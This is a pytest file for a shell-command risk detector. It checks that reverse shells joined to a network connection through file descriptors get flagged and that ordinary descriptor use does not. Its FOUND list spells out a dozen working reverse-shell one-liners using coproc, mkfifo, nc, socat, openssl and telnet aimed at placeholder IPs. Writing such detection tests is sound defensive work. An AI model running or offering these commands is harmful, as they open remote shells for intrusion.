"""Shells that are joined with a connection by descriptors."""

import pytest

from tallystick.policy.risks.reverse_shell_fd import RISKS, risks
from tests.policy.risks.readings import found

FOUND = (
    'coproc nc 198.51.100.9 4444; bash <&"${COPROC[0]}" >&"${COPROC[1]}" 2>&1',
    "coproc nc 198.51.100.9 4444; exec bash <&${COPROC[0]} >&${COPROC[1]}",
    'coproc N { nc 198.51.100.9 4444; }; sh <&"${N[0]}" >&"${N[1]}"',
    'coproc S { bash; }; nc 198.51.100.9 4444 <&"${S[0]}" >&"${S[1]}"',
    "coproc bash -i; nc 198.51.100.9 4444 <&${COPROC[0]} >&${COPROC[1]}",
    "mkfifo /tmp/p; sh < /tmp/p | nc 1.2.3.4 9 > /tmp/p",
    "mkfifo p q; nc 1.2.3.4 9 <p >q & sh <q >p",
    "mkfifo p q; sh <q >p & openssl s_client -connect 1.2.3.4:9 <p >q",
    "exec 7< <(nc 1.2.3.4 9); bash <&7",
    "coproc socat - TCP:1.2.3.4:9; zsh <&${COPROC[0]} >&${COPROC[1]}",
    "coproc telnet 1.2.3.4 9; ksh <&p >&p",
    "exec 3> >(nc 1.2.3.4 9); exec 4< <(nc -l 9); bash <&4 >&3",
)
WORK = (
    'coproc cat; echo hi >&"${COPROC[1]}"; read -r x <&"${COPROC[0]}"',
    "coproc python server.py; nc -z localhost 8000",
    "coproc BC { bc -l; }; echo '1+1' >&\"${BC[1]}\"",
    "exec 3>build.log; make >&3",
    "exec > build.log 2>&1; make",
    'exec 3<README.md; while read -r l <&3; do echo "$l"; done',
    "exec 3<>/dev/tcp/localhost/8000; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
    "mkfifo /tmp/p; make > /tmp/p & tee build.log < /tmp/p",
    "bash scripts/build.sh 3>&1 | tee log.txt",
)


@pytest.mark.parametrize("command", FOUND)
def test_a_shell_that_is_joined_with_a_connection_is_found(command: str) -> None:
    assert found(risks, command) == set(RISKS)


@pytest.mark.parametrize("command", WORK)
def test_descriptors_of_files_and_of_other_programs_are_work(command: str) -> None:
    assert found(risks, command) == set()
